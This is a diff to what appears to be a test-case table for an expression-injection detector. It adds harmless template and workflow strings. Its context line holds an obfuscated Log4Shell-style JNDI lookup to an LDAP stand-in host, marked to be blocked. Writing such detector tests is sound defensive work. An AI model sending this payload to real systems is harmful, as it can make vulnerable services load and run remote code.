@@ -15,6 +15,18 @@ const OGNL_HEADER =
 
 export const EXPRESSION_CASES: readonly ExpressionCase[] = [
     {
+        text: "{{ self.title }} ${{ secrets.TOKEN }} ${var.region} #{$margin}",
+        want: "pass",
+        why: "templates, workflows, Terraform, SCSS",
+    },
+    {
+        text: "key: ${{ hashFiles('**/package-lock.json') }}",
+        path: "form.code",
+        want: "observe",
+        technique: "template-expression",
+        why: "a workflow file",
+    },
+    {
         text: `${"${::-x}".repeat(40)}\${jndi:ldap://example.com}`,
         want: "block",
         technique: "jndi-lookup",
